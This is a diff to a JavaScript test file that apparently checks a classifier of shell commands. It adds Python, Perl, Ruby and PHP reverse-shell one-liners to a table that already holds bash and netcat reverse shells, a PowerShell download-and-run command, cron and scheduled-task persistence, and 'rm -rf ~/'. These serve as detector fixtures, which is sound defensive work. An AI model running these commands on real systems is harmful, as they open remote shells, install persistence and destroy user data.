@@ -29,6 +29,16 @@ describe('a shell command', () => {
       ['powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://192.0.2.1/a\')"', 'download-and-run'],
       ['bash -i >& /dev/tcp/192.0.2.15/9001 0>&1', 'reverse-shell'],
       ['rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f', 'reverse-shell'],
+      [
+        `python3 -c 'import socket as s,subprocess as p,os;c=s.socket();c.connect(("192.0.2.9",9001));[os.dup2(c.fileno(),f) for f in (0,1,2)];p.call(["/bin/sh","-i"])'`,
+        'reverse-shell',
+      ],
+      [
+        `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");'`,
+        'reverse-shell',
+      ],
+      [`ruby -rsocket -e 'c=TCPSocket.new("192.0.2.9",9001);exec "/bin/sh -i <&3"'`, 'reverse-shell'],
+      [`php -r '$s=fsockopen("192.0.2.9",9001);exec("/bin/sh -i <&3 >&3");'`, 'reverse-shell'],
       ['(crontab -l; echo "* * * * * /tmp/x") | crontab -', 'autostart'],
       ['schtasks /create /tn Update /tr x.exe /sc onlogon', 'autostart'],
       ['rm -rf ~/', 'destructive-command'],
